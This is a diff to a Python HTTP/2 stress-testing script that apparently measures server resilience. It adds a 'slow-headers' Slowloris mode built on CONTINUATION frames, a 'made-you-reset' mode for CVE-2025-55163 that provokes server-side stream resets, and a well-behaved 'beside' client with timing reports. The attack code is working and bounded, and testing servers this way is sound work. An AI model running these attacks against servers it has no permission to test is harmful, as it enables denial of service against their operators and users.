@@ -17,9 +17,16 @@ last line printed is one JSON object:
     statuses     {"status": count} of the response heads the server sent
     streams      {"stream id": {"status": s, "reset": "ERROR_NAME", "data": bytes}}, for 16 streams or fewer
     stalled_ms   zero-window: milliseconds from the request to its reset or close
+    ended_ms     beside: milliseconds from stream 1's HEADERS to its end (END_STREAM or reset)
+    idle_ms      beside with --linger: milliseconds from the last stream's end to the GOAWAY or close
+    cut_ms       slow-headers: milliseconds from the HEADERS to the GOAWAY or close
     settings     the server's SETTINGS, by name
     good         the well-behaved client's status, or an error string
     ms           how long the whole attack took
+
+One case is no attack but a limit of the server's met by one stream: "beside"
+makes its streams with Python h2's H2Connection, stream 1 the one the limit ends,
+streams 3 and 5 well-behaved ones on the same connection (see `beside`).
 
 Everything is bounded: --count frames at most, and reads give up after --wait
 seconds of silence or three times that in all.
@@ -35,9 +42,10 @@ import time
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 from hpack import Encoder, NeverIndexedHeaderTuple
 from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
-                              PriorityFrame, RstStreamFrame, SettingsFrame)
+                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
@@ -438,10 +446,192 @@ def concurrent_streams(args):
     return a, good
 
 
+def slow_headers(args):
+    """Slowloris over HTTP/2: a HEADERS frame without END_HEADERS, then a small CONTINUATION frame
+    every --interval seconds, --count of them at most, the header block never ended (RFC 9113
+    §6.10: nothing else may come on the connection meanwhile). Fewer frames than a CONTINUATION
+    flood's, so that only a timeout on the block can end it."""
+    a = Attacker(args)
+    a.write(a.headers(1, None, end_headers=False, encoded=a.encoder.encode(request_headers(args))))
+    opened = time.monotonic()
+    cut = None
+    good = None
+    for k in range(args.count):
+        a.read(args.interval, until=lambda r: r["goaway"] is not None)
+        if a.report["closed"] or a.report["goaway"]:
+            cut = time.monotonic()
+            break
+        f = ContinuationFrame(1)
+        f.data = Encoder().encode([NeverIndexedHeaderTuple("x-slow-%d" % k, "v")], huffman=False)
+        if not a.write(f.serialize(), 1):
+            cut = time.monotonic()
+            break
+        if good is None and k >= args.count // 2:
+            good = good_request(args)
+    if good is None:
+        good = good_request(args)
+    if cut is None:
+        a.read(args.wait, until=lambda r: r["goaway"] is not None)
+        if a.report["closed"] or a.report["goaway"]:
+            cut = time.monotonic()
+    a.read(0.5)
+    a.report["cut_ms"] = None if cut is None else round((cut - opened) * 1000)
+    return a, good
+
+
+def made_you_reset(args):
+    """MadeYouReset (CVE-2025-55163): requests for --path (which should take a while), each followed
+    at once by a frame that makes the server reset the stream itself, by turns a WINDOW_UPDATE of 0
+    (RFC 9113 §6.9) and DATA on the stream the client has ended (§5.1, half-closed). The client
+    sends no RST_STREAM, so a limit on the resets it sends never counts these; the handlers go on
+    running while their streams no longer count against SETTINGS_MAX_CONCURRENT_STREAMS."""
+    a = Attacker(args)
+
+    def make(first, n):
+        out = []
+        for k in range(first, first + n):
+            sid = 1 + 2 * k
+            out.append(a.headers(sid, request_headers(args)))
+            if k % 2 == 0:
+                f = WindowUpdateFrame(sid)
+                f.window_increment = 0
+            else:
+                f = DataFrame(sid)
+                f.data = b"x"
+            out.append(f.serialize())
+        return b"".join(out)
+
+    good = in_batches(a, args.count, 100, make)
+    a.read(args.wait)
+    return a, good
+
+
+class Client:
+    """A well-behaved connection made with Python h2's H2Connection; its report has the
+    Attacker's shape, its streams' ends are timed."""
+
+    def __init__(self, args):
+        self.args = args
+        self.sock = open_socket(args)
+        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
+                                                                          header_encoding="utf-8"))
+        self.conn.initiate_connection()
+        self.sent = 0
+        self.report = {"goaway": None, "closed": False, "resets": {}, "statuses": {}, "settings": {},
+                       "data": {}}
+        self.ended = {}
+        self.flush()
+
+    def flush(self):
+        data = self.conn.data_to_send()
+        if data and not self.report["closed"]:
+            try:
+                self.sock.sendall(data)
+            except OSError:
+                self.report["closed"] = True
+
+    def read(self, quiet, until=None):
+        """As Attacker.read: until the server closes, `until(self)` holds, `quiet` seconds of silence
+        or 3 × `quiet` in all."""
+        deadline = time.monotonic() + 3 * quiet
+        while not self.report["closed"]:
+            if until and until(self):
+                return
+            if time.monotonic() > deadline:
+                return
+            self.sock.settimeout(quiet)
+            try:
+                chunk = self.sock.recv(65536)
+            except socket.timeout:
+                return
+            except OSError:
+                chunk = b""
+            if not chunk:
+                self.report["closed"] = True
+                self.ended.setdefault("closed", time.monotonic())
+                return
+            try:
+                events = self.conn.receive_data(chunk)
+            except h2.exceptions.ProtocolError as e:
+                self.report["error"] = "the server's frames broke HTTP/2: %r" % e
+                self.report["closed"] = True
+                return
+            for e in events:
+                self.on_event(e)
+            self.flush()
+
+    def on_event(self, e):
+        r = self.report
+        now = time.monotonic()
+        if isinstance(e, h2.events.ResponseReceived):
+            status = int(dict(e.headers)[":status"])
+            if status >= 200:
+                r["statuses"][str(e.stream_id)] = status
+        elif isinstance(e, h2.events.DataReceived):
+            sid = str(e.stream_id)
+            r["data"][sid] = r["data"].get(sid, 0) + len(e.data)
+            self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
+        elif isinstance(e, h2.events.StreamEnded):
+            self.ended.setdefault(e.stream_id, now)
+        elif isinstance(e, h2.events.StreamReset):
+            r["resets"][str(e.stream_id)] = error_name(e.error_code)
+            self.ended.setdefault(e.stream_id, now)
+        elif isinstance(e, h2.events.ConnectionTerminated):
+            r["goaway"] = {"error": error_name(e.error_code), "last_stream_id": e.last_stream_id,
+                           "debug": (e.additional_data or b"").decode("utf-8", "replace")}
+            self.ended.setdefault("closed", now)
+        elif isinstance(e, h2.events.RemoteSettingsChanged):
+            r["settings"].update({SETTINGS.get(int(k), str(k)): v.new_value for k, v in e.changed_settings.items()})
+
+    def gone(self):
+        return self.report["closed"] or self.report["goaway"] is not None
+
+    def close(self):
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+
+def beside(args):
+    """A limit of the server's met by one stream of a connection while others go on: stream 1 asks
+    for --path with --method, --extra-headers header fields more, and, with --open-body N, N bytes
+    of a body it then never ends; stream 3 asks for --good-path at once on the same connection,
+    and stream 5 once stream 1 has ended. With --linger S, the connection is then watched S
+    seconds more for the server to close it (the idle timeout)."""
+    c = Client(args)
+    c.read(0.2, until=lambda c: c.report["settings"])
+    headers = request_headers(args, method=args.method)
+    headers += [("x-extra-%d" % i, "v") for i in range(args.extra_headers)]
+    body = args.open_body or args.method == "POST"
+    c.conn.send_headers(1, headers, end_stream=not body)
+    if args.open_body:
+        c.conn.send_data(1, b"b" * args.open_body, end_stream=False)
+    c.flush()
+    opened = time.monotonic()
+    c.conn.send_headers(3, request_headers(args, args.good_path), end_stream=True)
+    c.flush()
+    good = good_request(args)
+    c.read(args.wait, until=lambda c: (1 in c.ended and 3 in c.ended) or c.gone())
+    if 1 in c.ended:
+        c.report["ended_ms"] = round((c.ended[1] - opened) * 1000)
+    if not c.gone():
+        c.conn.send_headers(5, request_headers(args, args.good_path), end_stream=True)
+        c.flush()
+        c.read(args.wait, until=lambda c: 5 in c.ended or c.gone())
+    if args.linger:
+        last = max([t for k, t in c.ended.items() if k != "closed"], default=time.monotonic())
+        c.read(args.linger, until=lambda c: c.gone())
+        if "closed" in c.ended:
+            c.report["idle_ms"] = round((c.ended["closed"] - last) * 1000)
+    return c, good
+
+
 ATTACKS = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
            "settings-flood": settings_flood, "ping-flood": ping_flood, "priority-flood": priority_flood,
            "empty-data-flood": empty_data_flood, "hpack-bomb": hpack_bomb, "header-list": header_list,
-           "zero-window": zero_window, "concurrent-streams": concurrent_streams}
+           "zero-window": zero_window, "concurrent-streams": concurrent_streams,
+           "slow-headers": slow_headers, "made-you-reset": made_you_reset, "beside": beside}
 
 
 def summarise(r):
@@ -472,6 +662,11 @@ def main():
     p.add_argument("--count", type=int, default=10000)
     p.add_argument("--size", type=int, default=0)
     p.add_argument("--wait", type=float, default=5.0)
+    p.add_argument("--interval", type=float, default=0.2)
+    p.add_argument("--method", default="GET")
+    p.add_argument("--extra-headers", type=int, default=0)
+    p.add_argument("--open-body", type=int, default=0)
+    p.add_argument("--linger", type=float, default=0)
     args = p.parse_args()
     t0 = time.monotonic()
     a, good = ATTACKS[args.attack](args)
